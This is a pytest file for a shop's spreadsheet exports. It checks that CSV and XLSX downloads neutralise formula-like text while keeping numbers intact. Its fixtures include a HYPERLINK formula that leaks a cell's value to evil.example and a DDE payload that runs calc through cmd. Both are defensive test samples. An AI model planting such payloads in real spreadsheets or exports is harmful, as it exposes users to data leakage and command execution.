"""Every download staff open in Excel keeps a sheet's text as text: a product called
``=HYPERLINK(…)`` is shown, never run. CSV cells that Excel would read as a formula (= + - @, tab,
CR) get the same 全角スペース in front as the carrier files (one function: vocabulary/text.py);
XLSX cells are string cells, never formulas; numbers stay numbers; an upload of a downloaded file
changes nothing."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from settings import load_settings
from sheets_schema.book import open_prepared_workbook, read_tables
from sheets_schema.cells import JST
from shipping import label_values
from shop import analytics, bulk_upload
from tests.shop_fixtures import staff_edit
from vocabulary.text import neutralise_formula

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
TRICKS = {
    "商品名": LINK,
    "仕入先": "@SUM(1+1)*cmd|' /C calc'!A0",
    "メモ": "+81 90-1234-5678",
}


@pytest.fixture(scope="module")
def tricky(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The demo shop with formula-like text typed into a product and a stock count below zero."""
    folder = tmp_path_factory.mktemp("demo")
    url = f"sqlite:///{folder / 'wb.sqlite3'}"
    settings = load_settings({"workbook": {"sql_url": url}, "sync": {"auto_sync_demo": False}})
    workbook = open_prepared_workbook(settings, datetime.now(JST))
    tables = read_tables(workbook)
    sku = tables["商品"].models()[0].sku
    staff_edit(workbook, "商品", (sku,), TRICKS)
    staff_edit(workbook, "在庫", (sku,), {"実在庫": "-3"})
    return {"tables": read_tables(workbook), "sku": sku}


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _no_formula_cells(data: bytes) -> None:
    """No cell of the .xlsx is a formula: no <f> element anywhere, every text cell a string."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_shared_rule() -> None:
    assert neutralise_formula(LINK) == "\u3000" + LINK
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(start + "1").startswith("\u3000")
    assert neutralise_formula("-3", keep_numbers=True) == "-3"
    assert neutralise_formula("-3+cmd", keep_numbers=True) == "\u3000-3+cmd"
    assert neutralise_formula("今治タオル") == "今治タオル"
    # The carrier files use the same function (and still turn inner tabs and breaks into spaces).
    assert label_values.clean_cell("=1+1\r\n") == "\u3000=1+1 "


def test_product_csv_neutralises_formula_cells(tricky) -> None:
    rows = _csv_rows(bulk_upload.table_csv(tricky["tables"]["商品"]))
    row = next(r for r in rows if r["SKU"] == tricky["sku"])
    for column, value in TRICKS.items():
        assert row[column] == "\u3000" + value
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_stock_csv_keeps_a_negative_count_a_number(tricky) -> None:
    rows = _csv_rows(bulk_upload.table_csv(tricky["tables"]["在庫"]))
    row = next(r for r in rows if r["SKU"] == tricky["sku"])
    assert row["実在庫"] == "-3"


def test_downloaded_csv_and_xlsx_upload_back_without_changes(tricky) -> None:
    tables = tricky["tables"]
    for title in ("商品", "在庫"):
        plan = bulk_upload.plan_upload(tables, f"{title}.csv", bulk_upload.table_csv(tables[title]))
        assert plan.errors == [] and plan.changes == [] and not plan.additions, title
    xlsx = bulk_upload.tables_xlsx([tables["商品"], tables["在庫"]])
    plan = bulk_upload.plan_upload(tables, "商品・在庫.xlsx", xlsx)
    assert plan.errors == [] and plan.changes == [] and not plan.additions


def test_products_xlsx_has_string_cells_not_formulas(tricky) -> None:
    data = bulk_upload.tables_xlsx([tricky["tables"]["商品"], tricky["tables"]["在庫"]])
    _no_formula_cells(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["商品"]
    assert LINK in [c.value for c in sheet["B"]]  # shown as typed


SUMMARY = pd.DataFrame(
    {
        "月": [LINK, "2026年2月"],
        "売上": [1000, -50],
        "件数": [1, 1],
        "客単価": [1000, 0],
        "送料": [0, 0],
        "キャンセル件数": [0, 0],
        "キャンセル率（%）": [0.0, 0.0],
    }
)


def test_monthly_summary_csv_neutralises_text_and_keeps_numbers() -> None:
    rows = _csv_rows(analytics.summary_csv(SUMMARY))
    assert rows[0]["月"] == "\u3000" + LINK
    assert rows[1]["売上"] == "-50"


def test_monthly_summary_xlsx_has_no_formula(tmp_path: Path) -> None:
    data = analytics.summary_xlsx(SUMMARY)
    _no_formula_cells(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == LINK and sheet["B3"].value == -50
